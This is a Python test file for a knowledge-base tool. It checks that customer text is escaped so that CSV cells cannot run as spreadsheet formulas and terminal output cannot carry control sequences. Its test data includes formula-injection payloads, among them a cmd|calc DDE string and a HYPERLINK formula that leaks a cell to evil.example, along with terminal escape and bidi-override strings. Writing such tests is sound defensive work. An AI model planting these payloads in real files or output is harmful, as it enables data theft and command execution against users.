"""Customer text made safe: CSV cells a spreadsheet would run as formulas, controls on the terminal."""

import csv

import pytest
from click.testing import CliRunner

import gaps.job
from gaps.mine import Gap, MiningResult
from gaps.report import write_csv
from kbsuggest.cli import main
from kbsuggest.text import csv_cell, terminal_safe


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=cmd|'/c calc'!A1", "'\t=cmd|'/c calc'!A1"), ("\r=1", "'\r=1"), ("\tplain", "'\tplain"),
    ("  =HYPERLINK(\"x\")", "'  =HYPERLINK(\"x\")"), ("\n@x", "'\n@x"), ("\0=1", "'\0=1"),
    ("Reset your password", "Reset your password"), ("a=b", "a=b"), ("'=already", "'=already"), ("", ""),
    (3, 3), (-2.5, -2.5), (None, None),
])
def test_csv_cell_neutralises_formulas_only(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("text, expected", [
    ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),  # OSC: set the window title
    ("\x1b[2J\x1b[31mred", "\\x1b[2J\\x1b[31mred"),  # CSI: clear screen, colour
    ("\x9b31m \x9d8;;", "\\x9b31m \\x9d8;;"),  # 8-bit CSI and OSC (C1)
    ("a\x00b\x7fc\x08", "a\\x00b\\x7fc\\x08"), ("two\nlines\r\ttab", "two\\x0alines\\x0d\\x09tab"),
    ("pay \u202eusd\u202c \u2066x\u2069 \u200f", "pay \\u202eusd\\u202c \\u2066x\\u2069 \\u200f"),
    ("\u2028", "\\u2028"), ("bad \udc80 byte", "bad \\udc80 byte"),
    ("naïve café — 日本語, emoji 🎉, Ωmega", "naïve café — 日本語, emoji 🎉, Ωmega"),
])
def test_terminal_safe_escapes_controls_and_keeps_unicode(text, expected):
    assert terminal_safe(text) == expected


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def result_with(title: str) -> MiningResult:
    gap = Gap(kind="missing", title=title, keywords=["-x", "dark"], ticket_ids=["1", "2", "3"], impact=2.5,
              last_30_days=3, previous_30_days=0, trend="new", weekly=[0] * 11 + [3], first_seen="2026-11-01",
              last_seen="2026-11-02", examples=[{"id": "1", "text": title}], rank=1)
    return MiningResult([gap], "2026-11-02T00:00:00", 3, 3, 0, 3, 0,
                        closed=[{"title": "@closed\x1b[8m", "size": 4}], run_id=7)


def test_gaps_csv_cells_are_never_formulas(tmp_path):
    write_csv(result_with(FORMULA), tmp_path / "gaps.csv")
    [row] = list(csv.DictReader(open(tmp_path / "gaps.csv", encoding="utf-8", newline="")))
    assert (row["title"], row["keywords"], row["size"], row["impact"]) == ("'" + FORMULA, "'-x; dark", "3", "2.5")


def test_gaps_summary_lines_are_terminal_safe(tmp_path, monkeypatch):
    monkeypatch.setattr(gaps.job, "run_gap_job", lambda *a, **k: result_with("\x1b]0;owned\x07Dark mode"))
    out = CliRunner().invoke(main, ["gaps", "--out", str(tmp_path / "out"), "--no-progress"],
                             env={"KBSUGGEST_DB_PATH": str(tmp_path / "k.db")})
    assert out.exit_code == 0, out.output
    assert out.stdout.splitlines()[2:4] == [
        "  1 missing  new            3     2.5    3 new     \\x1b]0;owned\\x07Dark mode",
        "closed: @closed\\x1b[8m (4 items last run)"]


def test_error_lines_quoting_input_are_terminal_safe(tmp_path):
    source = tmp_path / "t.csv"
    source.write_text("id,title,created_at\n1,a,2026-11-01\n")
    out = CliRunner().invoke(main, ["tickets", "import", str(source), "--map", "ti\x1b[2Jtle=subject"],
                             env={"KBSUGGEST_DB_PATH": str(tmp_path / "k.db")})
    assert out.exit_code == 1
    assert out.stderr.startswith("error: cannot map unknown field(s) ti\\x1b[2Jtle; fields: id, title,")
